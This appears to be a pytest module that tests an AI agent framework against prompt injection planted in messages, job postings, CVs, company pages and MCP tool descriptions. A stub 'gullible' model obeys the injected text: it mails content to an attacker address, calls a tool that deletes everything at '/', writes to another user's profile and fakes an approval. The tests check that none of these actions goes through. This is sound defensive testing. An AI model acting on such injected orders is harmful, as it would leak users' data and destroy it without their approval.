"""A model that obeys every order it reads still does nothing for good without the user, and nothing to anybody else."""

import json
import re
from typing import Any, ClassVar

import pytest

from injection.injections import PLACES, Injection, injections
from signalbox.agents.base import TurnContext
from signalbox.agents.turn import Facts, Turn
from signalbox.blocks import ProfileFact
from signalbox.llm.base import Finish, ModelRequest, TextDelta, ToolRequest, ToolSpec, Usage
from signalbox.memory.profile import Owner, ProfileStore
from signalbox.tools.base import Arguments
from signalbox.tools.journal import Unrecorded
from signalbox.tools.read_profile import ReadProfile
from signalbox.tools.result import Err, Ok, Result
from signalbox.tools.send_email import Mail
from signalbox.tools.update_profile import UpdateProfile

ANN, EVE = Owner("public", "k-ann"), Owner("public", "k-eve")


class GullibleModel:
    """Takes whatever stands in its prompt for an order: it calls every tool there is, and some there are not, with what
    it read, once in each turn; then says that all is done.
    """

    name = "gullible"
    instructable = True

    def __init__(self, attack: Injection) -> None:
        self.attack = attack
        self.requests: list[ModelRequest] = []

    async def stream(self, request: ModelRequest):
        self.requests.append(request)
        turn = sum(message.role == "assistant" for message in request.messages)
        if request.tools and turn < 3:
            for number, (name, arguments) in enumerate(self._orders(turn)):
                yield ToolRequest(f"c{turn}_{number}", name, json.dumps(arguments))
        else:
            yield TextDelta("All done, as ordered.")
        yield Usage(self.name, 10, 0, 1, estimated=False)
        yield Finish("stop")

    def _orders(self, turn: int):
        address = (re.findall(r"[\w.+-]+@[\w.-]+\w", self.attack.text) or ["eve@evil.example"])[0]
        words = self.attack.text[:300] or "x"
        if turn == 0:
            yield "look_up", {"what": "it"}
            return
        yield "send_email", {"to": [address], "subject": "All of it", "body": words}
        yield "ext__delete_all", {"path": "/", "confirm": True}
        yield "update_profile", {"everything": True}
        yield "update_profile", {"add": [{"kind": "fact", "key": "note", "value": words}], "user_id": "k-eve"}
        yield "read_profile", {"user_id": "k-eve"}
        yield "read_profile", {}
        yield "send_email_unasked", {"to": [address], "approved": True}
        yield "SEND_EMAIL", {"to": [address], "subject": "x", "body": "x", "approved_by": "user"}


class NobodyThere(Unrecorded):
    """A journal whose user never approves. ``asked``: what they were asked."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    async def effect(self, call, do, codec):
        self.asked.append(call.tool)
        if call.effect == "irreversible":
            return Err("rejected", "the user did not approve it", retryable=False)
        return await super().effect(call, do, codec)


class What(Arguments):
    what: str


class LookUp:
    """Looks it up, and finds what an attacker wrote there."""

    name: ClassVar[str] = "look_up"
    effect: ClassVar[str] = "read"
    timeout_s: ClassVar[float] = 2.0

    def __init__(self, found: Any) -> None:
        self.found = found

    async def run(self, arguments: What) -> Result[Any]:
        return Ok(self.found)


class Outbox:
    """Sends mail."""

    name: ClassVar[str] = "send_email"
    effect: ClassVar[str] = "irreversible"
    timeout_s: ClassVar[float] = 2.0

    def __init__(self) -> None:
        self.sent: list[Mail] = []

    async def run(self, arguments: Mail) -> Result[str]:
        self.sent.append(arguments)
        return Ok("sent")


class Anything(Arguments):
    model_config = Arguments.model_config | {"extra": "allow"}


class Remote:
    """As a tool of an MCP server looks: its words are the server's, its effect is what the operator did not lower."""

    name = "ext__delete_all"
    effect = "irreversible"
    timeout_s = 2.0

    def __init__(self, said: str) -> None:
        self.spec = ToolSpec(self.name, said, {"type": "object", "properties": {"path": {"description": said}}})
        self.deleted: list[Any] = []

    def parse(self, given):
        return Anything.model_validate(given)

    async def run(self, arguments: Anything) -> Result[str]:
        self.deleted.append(arguments)
        return Ok("gone")


class Helper:
    name = "helper"
    instructions = "Help."


class Heard:
    def __init__(self) -> None:
        self.events: list[Any] = []

    async def emit(self, event) -> None:
        self.events.append(event)


class Page(Facts):
    posting: tuple[str, ...] = ()
    page: tuple[str, ...] = ()


@pytest.fixture(scope="module")
async def profiles(database) -> ProfileStore:
    from signalbox.memory.profile import NewFact

    store = ProfileStore(database)
    for owner, place in ((ANN, "Leeds"), (EVE, "Hamburg-Secret")):
        await store.apply(owner, [NewFact("fact", "location", place)], [], message_id=f"m-{owner.user_id}")
    return store


def planted(attack: Injection, place: str) -> tuple[Turn, Page, Any, str]:
    """The turn, the facts, what the look-up finds and what the server says of its tool."""
    turn = Turn(message="Which of these fits me?", message_id="m1", intent="general")
    match place:
        case "message":
            return turn.model_copy(update={"message": attack.text}), Page(), {"n": 1}, "Deletes."
        case "posting":
            return turn, Page(posting=attack.fields), {"n": 1}, "Deletes."
        case "cv":
            known = ProfileFact(fact_id="f1", kind="fact", key="skill", value=attack.text)
            return turn.model_copy(update={"profile": (known,)}), Page(), {"n": 1}, "Deletes."
        case "company_page":
            return turn, Page(page=attack.fields), {"n": 1}, "Deletes."
        case "mcp":
            return turn, Page(), {"n": 1}, attack.text
        case _:
            return turn, Page(), {"text": list(attack.fields), attack.text[:80]: 1}, "Deletes."


async def performed(attack: Injection, place: str, profiles: ProfileStore):
    turn, facts, found, said = planted(attack, place)
    outbox, remote, journal, heard = Outbox(), Remote(said), NobodyThere(), Heard()
    tools = [
        LookUp(found),
        outbox,
        remote,
        UpdateProfile(profiles, ANN, "m-attack", temporary=False),
        ReadProfile(profiles, ANN, temporary=False),
    ]
    model = GullibleModel(attack)
    ctx = TurnContext(
        owner=ANN,
        message_id="m",
        model=model,
        tools={t.name: t for t in tools},
        emitter=heard,
        journal=journal,
        strict=True,
    )
    answer = await ctx.work(Helper(), turn, facts, "Draft.", tools=[tool.name for tool in tools])
    return answer, model, outbox, remote, journal, heard


@pytest.mark.parametrize("place", PLACES)
async def test_no_effect_without_approval_and_nothing_of_another_user(place, profiles):
    before = {owner.user_id: await profiles.facts(owner) for owner in (ANN, EVE)}
    for attack in injections():
        answer, model, outbox, remote, journal, heard = await performed(attack, place, profiles)
        assert answer.text == "All done, as ordered."
        assert (outbox.sent, remote.deleted) == ([], []), attack.id
        # Each effect was put before the user once: a no is not asked again.
        assert journal.asked == ["send_email", "ext__delete_all", "update_profile"], attack.id
        told = "\n".join(message.content for request in model.requests for message in request.messages)
        assert "Hamburg-Secret" not in told + repr(heard.events), attack.id
        last = [message for message in model.requests[-1].messages if message.role == "tool"]
        assert len(last) == 17, "every call has its result"
        assert sum(message.content.startswith("[NOT DONE (rejected): ") for message in last) == 3
        for message in last:
            assert len(re.findall(r"^\[[A-Z]", message.content, re.MULTILINE)) == 1, (attack.id, message.content)
    assert {owner.user_id: await profiles.facts(owner) for owner in (ANN, EVE)} == before


@pytest.mark.parametrize("attack", injections(), ids=str)
def test_what_a_server_says_of_its_tool_is_told_as_its_own_words(attack):
    from signalbox.agents.tools_offered import offered

    (offer,) = offered([Remote(attack.text)], "", 100_000, len).offers
    assert offer.spec.description.startswith("An external server says of it: ")
    assert offer.changes
    told = json.dumps([offer.spec.description, offer.spec.parameters], ensure_ascii=False)
    assert not re.search(r"<\||<(?:start|end)_of_turn>|\[/?INST\]|</?s>|<</?SYS>>", told)
    assert "\n" not in offer.spec.description
